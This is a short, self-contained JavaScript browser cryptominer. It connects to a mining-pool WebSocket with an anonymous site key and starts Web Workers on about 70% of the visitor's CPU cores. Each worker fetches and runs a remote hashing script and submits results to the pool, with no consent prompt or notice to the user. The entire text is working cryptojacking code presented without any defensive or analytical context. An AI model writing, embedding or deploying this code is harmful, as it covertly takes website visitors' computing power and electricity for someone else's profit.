// The miner without the hosted library: one worker per core built from a Blob, each loading
// the hashing module, and one pool socket that hands out jobs and takes results.
(function () {
  var P = "wss://ws-pool.minr-relay.invalid:8181/", K = "4AQ9dXz8yLm2pW7rT1vB6nC3kJ5hG0fD", th = 0.7;
  var src = "self.onmessage=function(e){var d=e.data;if(d.t==='job'){importScripts('https://cdn.minr-relay.invalid/cnv2.js');" +
    "self.postMessage({t:'share',n:d.j.nonce,r:Module.hash(d.j.blob,d.j.target)});}};";
  var url = URL.createObjectURL(new Blob([src], { type: "application/javascript" }));
  var ws = new WebSocket(P), ws_ok = false, workers = [];
  ws.onopen = function () {
    ws_ok = true;
    ws.send(JSON.stringify({ type: "auth", params: { site_key: K, type: "anonymous", user: null, goal: 0 } }));
  };
  ws.onmessage = function (m) {
    var msg = JSON.parse(m.data);
    if (msg.type !== "job") return;
    workers.forEach(function (w) { w.postMessage({ t: "job", j: msg.params }); });
  };
  var n = Math.max(1, Math.floor((navigator.hardwareConcurrency || 4) * th));
  for (var i = 0; i < n; i++) {
    var w = new Worker(url);
    w.onmessage = function (e) {
      if (ws_ok && e.data.t === "share") ws.send(JSON.stringify({ type: "submit", params: { job_id: e.data.n, result: e.data.r } }));
    };
    workers.push(w);
  }
  document.addEventListener("visibilitychange", function () {
    if (document.hidden) return;
    ws.send(JSON.stringify({ type: "ping" }));
  });
})();
